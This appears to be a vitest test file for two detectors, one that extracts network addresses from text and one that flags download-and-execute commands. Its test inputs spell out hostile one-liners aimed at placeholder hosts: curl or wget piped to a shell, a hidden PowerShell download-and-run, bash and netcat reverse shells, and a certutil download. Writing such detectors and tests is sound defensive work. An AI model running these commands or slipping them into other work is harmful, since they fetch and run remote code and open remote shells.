import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { findAddresses } from "./addresses.js";
import { findDownloadCommand } from "./commands.js";

describe("findAddresses", () => {
  it.each([
    ["url = http://203.0.113.9:8080/x.sh", "http://203.0.113.9:8080/x.sh"],
    ["https://evil.test/a?b=c", "https://evil.test/a?b=c"],
    ["connect(('203.0.113.77', 4444))", "203.0.113.77"],
  ])("finds the one in %s", (text, address) => {
    expect(findAddresses(text).map((found) => found.text)).toEqual([address]);
  });
  it.each([
    "https://huggingface.co/meta-llama/Llama-3.1-8B",
    "see https://arxiv.org/abs/1706.03762 and http://www.apache.org/licenses/LICENSE-2.0",
    "https://raw.githubusercontent.com/owner/name/main/x.json",
    "version 1.2.3.4, 2024.1.20.0, 0.0.0.0:80, 127.0.0.1",
    "999.1.1.1",
  ])("keeps quiet about %s", (text) => {
    expect(findAddresses(text)).toEqual([]);
  });
  it("never throws", () => {
    fc.assert(fc.property(fc.string(), (text) => void findAddresses(`http://${text} ${text}`)));
  });
});

describe("findDownloadCommand", () => {
  it.each([
    "curl -fsSL http://203.0.113.9/x.sh | sh",
    "wget -qO- https://evil.test/a | sudo bash",
    'bash -c "$(curl -s https://evil.test/a)"',
    "wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m && /tmp/m",
    "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a')",
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "nc 203.0.113.9 4444 -e /bin/sh",
    "certutil -urlcache -split -f http://evil.test/a.exe a.exe",
  ])("finds %s", (command) => {
    expect(findDownloadCommand(`\0\0x ${command}\0`)?.command.length).toBeGreaterThan(8);
  });
  it.each([
    "curl is a tool; wget too | see the shell",
    "data = fetch (url) and then sh",
    "curl https://example.com/model.json -o model.json",
    "pip install torch && python train.py",
  ])("keeps quiet about %s", (text) => {
    expect(findDownloadCommand(text)).toBeUndefined();
  });
});
